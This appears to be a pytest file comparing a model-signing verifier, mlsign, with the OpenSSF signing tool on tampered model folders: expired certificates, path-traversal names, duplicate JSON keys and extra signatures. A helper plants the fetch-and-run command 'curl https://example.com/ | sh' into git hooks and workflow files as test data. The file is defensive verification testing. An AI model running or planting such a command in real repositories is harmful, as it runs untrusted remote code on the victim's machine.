"""What the OpenSSF tool (1.1.1) lets pass and mlsign must not: each shown on the same files, first there and then here.

When the first half of a test fails, the tool has got better: then there is a row to change in docs/interop.md.
"""

import json
from base64 import b64decode, b64encode
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from certificate_authority import Organisation, make_organisation
from making import Pair, canonical, digest_hex, make_key, make_package, statement_over, subject_of, write_model, write_policy

import mlsign
from mlsign.evidence.findings import Outcome
from mlsign.formats.bundle import encode_bundle
from mlsign.policy.model import Verdict

verifying = pytest.importorskip("model_signing.verifying", reason="the OpenSSF tool is not installed")

OPEN = "model: {presence: optional}\n"


@pytest.fixture(scope="module")
def pair() -> Pair:
    return make_key()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A model with its weights and a text, by nobody so far."""
    folder = tmp_path / "fraud-1.2.0"
    write_model(folder / "net.onnx", external="net.onnx.data")
    (folder / "README.md").write_text("hello")
    return folder


@pytest.fixture
def gate(tmp_path: Path, pair: Pair) -> mlsign.Gate:
    return gate_with(tmp_path / "policy", pair)


def gate_with(folder: Path, pair: Pair, *, rest: str = "") -> mlsign.Gate:
    return mlsign.Gate.load(write_policy(folder, {"release": (1, [pair.public])}, manifest="optional", rest=OPEN + rest))


def signed(folder: Path, payload: bytes, pair: Pair, target: Path) -> Path:
    target.write_bytes(encode_bundle(pair.signer.sign(payload)))
    return target


def denied(gate: mlsign.Gate, folder: Path, signature: Path, **how: Any) -> set[str]:
    report = gate.verify(folder, signatures=(signature,), **how)
    assert report.decision.verdict is Verdict.DENY
    reasons = {f.code for record in report.evidence.signatures for f in record.reasons}
    return reasons | {f.code for f in report.decision.findings if f.outcome is not Outcome.PASS}


def allowed(gate: mlsign.Gate, folder: Path, signature: Path, **how: Any) -> mlsign.Report:
    report = gate.verify(folder, signatures=(signature,), **how)
    assert report.decision.verdict is Verdict.ALLOW, [f for f in report.decision.findings if f.outcome is not Outcome.PASS]
    return report


def they_accept(folder: Path, signature: Path, public: bytes, *, unsigned: bool = False) -> None:
    """Passes where the OpenSSF tool accepts the folder; raises what it raises."""
    key = folder.parent / "peer.pub"
    key.write_bytes(public)
    config = verifying.Config().use_elliptic_key_verifier(public_key=key).set_ignore_unsigned_files(unsigned)
    config.verify(folder, signature)


def test_both_agree_on_what_is_in_order_and_on_what_is_not(tmp_path, folder, gate, pair):
    """Else what follows would show nothing."""
    signature = signed(folder, canonical(statement_over(folder)), pair, tmp_path / "model.sig")
    they_accept(folder, signature, pair.public)
    allowed(gate, folder, signature)
    (folder / "README.md").write_text("hullo")
    with pytest.raises(ValueError, match="Hash mismatch"):
        they_accept(folder, signature, pair.public)
    assert {"MLS101", "MLS205"} <= denied(gate, folder, signature)


# Certificates


@pytest.fixture
def expired(tmp_path: Path) -> Organisation:
    """An organisation whose certificates, all of them, have been over for a year; and its root, for policies."""
    now = datetime.now(UTC).replace(microsecond=0)
    found = make_organisation(since=now - timedelta(days=800), until=now - timedelta(days=400))
    (tmp_path / "ca.pem").write_bytes(found.root.pem)
    return found


def test_an_expired_certificate_is_refused(tmp_path, folder, expired):
    """To the tool it is good whenever it was good on its first day."""
    was = expired.leaf.certificate.not_valid_before_utc + timedelta(days=1)
    signature = tmp_path / "model.sig"
    signature.write_bytes(encode_bundle(expired.signer(now=was).sign(canonical(statement_over(folder)))))
    verifying.Config().use_certificate_verifier(certificate_chain=[tmp_path / "ca.pem"]).verify(folder, signature)
    (tmp_path / "policy.yaml").write_text(
        "apiVersion: mlsign/v1\nkind: Policy\nname: tests\nmanifest: optional\n"
        "signers: [{name: release, require: 1, any: [{certificate: {roots: [ca.pem], name: 'email:release@acme.example'}}]}]\n"
        f"operators: {{allow: [inference-v1]}}\n{OPEN}"
    )
    gate = mlsign.Gate.load(tmp_path / "policy.yaml")
    assert {"MLS212", "MLS205"} <= denied(gate, folder, signature)
    # Nothing else is wrong with it.
    allowed(gate, folder, signature, now=was)


# Paths


@pytest.mark.parametrize("name", ["../outside", "sub/../../outside"])
def test_a_signed_path_that_leads_out_of_the_folder_is_refused(tmp_path, folder, gate, pair, name):
    """The tool reads there, when it goes by the names that are signed."""
    (folder / "sub").mkdir()
    (folder / "sub" / "data").write_text("x")
    (tmp_path / "outside").write_text("not yours to read")
    statement = statement_over(folder)
    outside = {"name": name, "algorithm": "sha256", "digest": digest_hex("sha256", b"not yours to read")}
    resources = statement["predicate"]["resources"] = sorted(
        [*statement["predicate"]["resources"], outside], key=lambda resource: resource["name"]
    )
    statement["subject"][0]["digest"]["sha256"] = subject_of(resources)
    signature = signed(folder, canonical(statement), pair, tmp_path / "model.sig")
    they_accept(folder, signature, pair.public, unsigned=True)
    (tmp_path / "outside").write_text("another")
    with pytest.raises(ValueError, match="Hash mismatch"):
        they_accept(folder, signature, pair.public, unsigned=True)
    assert {"MLS206", "MLS205"} <= denied(gate, folder, signature)


GIT = [".git", ".gitattributes", ".github", ".gitignore"]
PLANTED = pytest.mark.parametrize(
    "name", [".git/hooks/post-checkout", ".github/workflows/run.yml", ".gitattributes", ".gitignore"]
)


def plant(folder: Path, name: str) -> None:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text("curl https://example.com/ | sh")


@PLANTED
def test_what_lies_in_paths_of_git_counts_unless_the_signature_ignores_them(tmp_path, folder, gate, pair, name):
    """The tool passes over these whatever the signature says."""
    signature = signed(folder, canonical(statement_over(folder)), pair, tmp_path / "model.sig")
    plant(folder, name)
    they_accept(folder, signature, pair.public)
    assert {"MLS103", "MLS205"} <= denied(gate, folder, signature)
    # It is let through where the policy says so in as many words, and is in the report.
    named = gate_with(tmp_path / "named", pair, rest=f"unsigned_files: [{name}]\n")
    assert allowed(named, folder, signature).evidence.unverified == (name,)


@PLANTED
def test_what_a_signature_ignores_is_in_the_report(tmp_path, folder, gate, pair, name):
    """Signed so, by a trusted signer: a folder without a manifest is allowed, and what was not looked at is named.

    The tool says nothing.
    """
    signature = signed(folder, canonical(statement_over(folder, ignore=GIT)), pair, tmp_path / "model.sig")
    assert allowed(gate, folder, signature).evidence.unverified == ()
    plant(folder, name)
    they_accept(folder, signature, pair.public)
    assert allowed(gate, folder, signature).evidence.unverified == (name.partition("/")[0],)
    with gate.admit(folder, signatures=(signature,)) as model:
        assert bytes(model.model.view) == (folder / "net.onnx").read_bytes()


def test_a_signature_that_ignores_the_model_does_not_count(tmp_path, folder, gate, pair):
    """The tool accepts whatever model lies there."""
    statement = statement_over(folder, ignore=["net.onnx"], leave_out=["net.onnx"])
    signature = signed(folder, canonical(statement), pair, tmp_path / "model.sig")
    (folder / "net.onnx.data").unlink()
    write_model(folder / "net.onnx", external="net.onnx.data", operator="Sigmoid")
    they_accept(folder, signature, pair.public)
    assert {"MLS208", "MLS205"} <= denied(gate, folder, signature)


@PLANTED
def test_in_a_package_nothing_is_ignored(tmp_path, pair, name):
    """A manifest lists everything there is, whatever a signature leaves out."""
    package = make_package(tmp_path)
    signature = signed(package, canonical(statement_over(package, ignore=GIT)), pair, tmp_path / "model.sig")
    gate = gate_with(tmp_path / "policy", pair)
    allowed(gate, package, signature)
    plant(package, name)
    they_accept(package, signature, pair.public)
    assert "MLS103" in denied(gate, package, signature)


# What is read twice, and what is not read


def test_a_statement_that_says_the_same_thing_twice_is_refused(tmp_path, folder, gate, pair):
    """One reader takes the first and another the last: then they do not check the same files."""
    good = canonical(statement_over(folder))
    other = statement_over(folder)["predicate"]
    other["resources"] = [dict(resource, digest="00" * 32) for resource in other["resources"]]
    assert good.startswith(b'{"_type":')
    payload = b'{"predicate":' + canonical(other) + b"," + good[1:]
    assert json.loads(payload) == json.loads(good)
    signature = signed(folder, payload, pair, tmp_path / "model.sig")
    they_accept(folder, signature, pair.public)
    assert {"MLS206", "MLS205"} <= denied(gate, folder, signature)


@pytest.mark.parametrize("second", ["by somebody else", "nonsense"])
def test_a_second_signature_that_nobody_checks_is_refused(tmp_path, folder, gate, pair, second):
    """An envelope has one: whoever is named by another beside it has perhaps not signed at all."""
    payload = canonical(statement_over(folder))
    signature = signed(folder, payload, pair, tmp_path / "model.sig")
    bundle = json.loads(signature.read_bytes())
    mine = bundle["dsseEnvelope"]["signatures"]
    other = make_key().signer.sign(payload).envelope.signature if second == "by somebody else" else b"nonsense"
    mine.append({"sig": b64encode(other).decode(), "keyid": "release"})
    assert b64decode(mine[0]["sig"]) != other
    signature.write_text(json.dumps(bundle))
    they_accept(folder, signature, pair.public)
    assert {"MLS202", "MLS205"} <= denied(gate, folder, signature)
    # The other way round it is the tool that refuses; for mlsign the order makes no difference.
    mine.reverse()
    signature.write_text(json.dumps(bundle))
    assert {"MLS202", "MLS205"} <= denied(gate, folder, signature)
